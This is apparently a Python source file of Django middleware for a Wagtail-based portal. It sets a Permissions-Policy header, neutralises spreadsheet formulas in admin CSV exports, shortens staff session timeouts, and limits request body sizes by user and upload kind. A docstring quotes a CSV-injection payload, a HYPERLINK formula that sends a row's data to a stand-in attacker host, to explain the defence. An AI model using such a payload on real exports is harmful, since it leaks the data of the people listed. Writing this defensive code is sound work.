"""Small security measures that apply to every response or every staff request."""

import codecs
import csv
import logging
import re

from django.conf import settings
from django.core.exceptions import RequestDataTooBig, TooManyFieldsSent, TooManyFilesSent
from django.http import FileResponse, HttpResponse
from django.template import loader
from django.urls import Resolver404, resolve

logger = logging.getLogger(__name__)


# The portal uses no camera, microphone, location or payment APIs: say so to the browser.
PERMISSIONS_POLICY = "camera=(), microphone=(), geolocation=(), payment=(), usb=(), interest-cohort=()"


class PermissionsPolicyMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        response.headers.setdefault("Permissions-Policy", PERMISSIONS_POLICY)
        return response


class SpreadsheetFormulaMiddleware:
    """No cell of a CSV the admin writes starts a formula when the file is opened in a spreadsheet.

    Wagtail writes every CSV of the admin (the requests export, its own reports: site
    history, aging and locked pages, workflows) with the values as they are, and some are
    typed by staff: a locality named `=HYPERLINK("http://evil.example/?"&A2,"Kliknij")`
    becomes a link that sends the row away. Excel and LibreOffice read a cell starting
    with = + - @, a tab or a carriage return as a formula; such a cell gets a single quote
    in front (OWASP, "CSV Injection"), which spreadsheets show as text. So does a value's
    part after a comma, semicolon or tab, where a spreadsheet set to split on that
    character (a Polish Excel splits on ";") would start a new cell. Done here, on the way
    out, so that every CSV Wagtail writes now or later is covered without copying its
    views. XLSX needs nothing: Wagtail stores each value there as text.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        if (
            request.path.startswith(settings.ADMIN_PREFIX)
            and response.get("Content-Type", "").startswith("text/csv")
            and not isinstance(response, FileResponse)
        ):
            if response.streaming:
                response.streaming_content = _neutralised_csv(response.streaming_content, response.charset)
            else:
                response.content = b"".join(_neutralised_csv([response.content], response.charset))
                if response.has_header("Content-Length"):
                    response["Content-Length"] = str(len(response.content))
        return response


FORMULA_CELL_START = re.compile(r"(^|[,;\t])(?=[=+\-@\t\r])")


def neutralise_cell(value):
    return FORMULA_CELL_START.sub(r"\1'", value)


class _Echo:
    def write(self, value):
        return value


def _csv_lines(chunks, charset):
    """The text of the chunks, line by line (a multi-byte character may be cut between chunks)."""
    decoder = codecs.getincrementaldecoder(charset)()
    pending = ""
    for chunk in chunks:
        pending += decoder.decode(chunk)
        *complete, pending = pending.split("\n")
        for line in complete:
            yield line + "\n"
    pending += decoder.decode(b"", final=True)
    if pending:
        yield pending


def _neutralised_csv(chunks, charset):
    # Read back and written again in the dialect it was written in (the csv module's
    # default, as Wagtail uses it), so quoted line breaks and commas stay inside their cells.
    writer = csv.writer(_Echo())
    for row in csv.reader(_csv_lines(chunks, charset)):
        yield writer.writerow([neutralise_cell(cell) for cell in row]).encode(charset)


class StaffIdleTimeoutMiddleware:
    """Staff sessions end after STAFF_SESSION_IDLE_SECONDS without a request.

    Applicants keep the longer default, so that someone filling in the form slowly,
    in a hard moment, does not lose their answers.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        user = getattr(request, "user", None)
        if user is not None and user.is_authenticated:
            request.session.set_expiry(settings.STAFF_SESSION_IDLE_SECONDS)
        return self.get_response(request)


# Wagtail's views that take a file, by the upload's kind: the only places where a body
# may be larger than a staff member's ordinary form. The account page takes an avatar.
DOCUMENT_UPLOAD_VIEWS = {
    "wagtaildocs:add",
    "wagtaildocs:add_multiple",
    "wagtaildocs:edit",
    "wagtaildocs_chooser:create",
}
IMAGE_UPLOAD_VIEWS = {
    "wagtailimages:add",
    "wagtailimages:add_multiple",
    "wagtailimages:edit",
    "wagtailimages_chooser:create",
}
AVATAR_VIEWS = {"wagtailadmin_account"}


def _upload_kind(request):
    try:
        view_name = resolve(request.path_info).view_name
    except Resolver404:
        return None
    if view_name in DOCUMENT_UPLOAD_VIEWS:
        return "document"
    if view_name in IMAGE_UPLOAD_VIEWS:
        return "image"
    if view_name in AVATAR_VIEWS:
        return "avatar"
    return None


def _staff_limit(kind):
    """The largest body signed-in staff may send to a view taking `kind` of file (None: no file)."""
    if kind == "document":
        return settings.DOCUMENT_UPLOAD_MAX_BODY_SIZE
    if kind in ("image", "avatar"):
        return settings.IMAGE_UPLOAD_MAX_BODY_SIZE
    return settings.STAFF_MAX_BODY_SIZE


def _may_upload(user, kind):
    """Whether Wagtail's own permission policy lets the user add or change that kind of file."""
    from wagtail.documents import get_document_model
    from wagtail.images import get_image_model
    from wagtail.permissions import policy_registry

    if kind in ("document", "image"):
        model = get_document_model() if kind == "document" else get_image_model()
        return policy_registry.get_by_type(model).user_has_any_permission(user, ["add", "change"])
    # Everyone signed in keeps their own avatar.
    return kind == "avatar"


def _content_length(request):
    """The announced body size; -1 when it is not a number."""
    try:
        return int(request.META.get("CONTENT_LENGTH") or 0)
    except ValueError:
        return -1


def _too_big(request, length):
    # The path never holds personal data (names travel in POST bodies only).
    logger.warning("Refused a %s-byte body to %s", length, request.path)
    return _static_page("413.html", 413)


class RequestLimitsMiddleware:
    """Refuses bodies nobody may send, before anything else reads them, or even the session.

    A step of the request form is a few kilobytes in a few fields; far more is a bot or
    a broken client. A Content-Length over PUBLIC_MAX_BODY_SIZE gets 413 and, outside
    the admin, more than PUBLIC_MAX_NUMBER_FIELDS fields get 400, each with a short
    static Polish page that needs no database. In the admin a request with a session
    cookie may announce more: STAFF_MAX_BODY_SIZE, or an upload's limit on Wagtail's
    upload views. Whether the session is a signed-in staff member's, and may upload,
    StaffBodyLimitMiddleware decides once the user is known, still without reading the
    body. A chunked body has no Content-Length: Django never reads it under WSGI, and
    its limits (DATA_UPLOAD_MAX_MEMORY_SIZE and DATA_UPLOAD_MAX_NUMBER_FIELDS) stop it
    while it is read here under ASGI; it is answered the same way.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        in_admin = request.path.startswith(settings.ADMIN_PREFIX)
        length = _content_length(request)
        if length < 0:
            # Django itself would fail on it later, with a server error.
            return _static_page("400.html", 400)
        if length > settings.PUBLIC_MAX_BODY_SIZE:
            # Without a session cookie nobody is signed in: no more than the public limit.
            staff_possible = in_admin and settings.SESSION_COOKIE_NAME in request.COOKIES
            if not staff_possible or length > _staff_limit(_upload_kind(request)):
                return _too_big(request, length)
        if not in_admin:
            try:
                fields = sum(
                    len(values) for data in (request.GET, request.POST, request.FILES) for _, values in data.lists()
                )
            except RequestDataTooBig:
                return _static_page("413.html", 413)
            except (TooManyFieldsSent, TooManyFilesSent):
                fields = None
            if fields is None or fields > settings.PUBLIC_MAX_NUMBER_FIELDS:
                logger.warning("Refused a request with too many fields to %s", request.path)
                return _static_page("400_too_many_fields.html", 400)
        return self.get_response(request)


class StaffBodyLimitMiddleware:
    """The admin's larger bodies belong to signed-in staff only, uploads to those who may upload.

    After the session, the user and the second factor are known, and before anything
    reads the body (CsrfViewMiddleware does, in its view check): a body over the public
    limit is refused from its Content-Length unless a staff member who has passed both
    log-in steps sends it. Their ordinary admin forms get STAFF_MAX_BODY_SIZE; Wagtail's
    upload views get the upload's limit if the user may add or change documents (or
    images). Someone who gave only the password is sent to the code screen by
    RequireSecondFactorMiddleware before this.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        length = _content_length(request)
        if length > settings.PUBLIC_MAX_BODY_SIZE and request.path.startswith(settings.ADMIN_PREFIX):
            user = request.user
            if not _signed_in_staff(user):
                return _too_big(request, length)
            kind = _upload_kind(request)
            if length > _staff_limit(kind if kind is not None and _may_upload(user, kind) else None):
                return _too_big(request, length)
        return self.get_response(request)


def _signed_in_staff(user):
    from portal.accounts.middleware import needs_second_factor

    if not (user.is_authenticated and user.is_active and user.has_perm("wagtailadmin.access_admin")):
        return False
    return not (settings.SECOND_FACTOR_REQUIRED and needs_second_factor(user))


def _static_page(template_name, status):
    response = HttpResponse(loader.get_template(template_name).render(), status=status)
    # Answered above XFrameOptionsMiddleware, which would otherwise add this.
    response["X-Frame-Options"] = settings.X_FRAME_OPTIONS
    return response
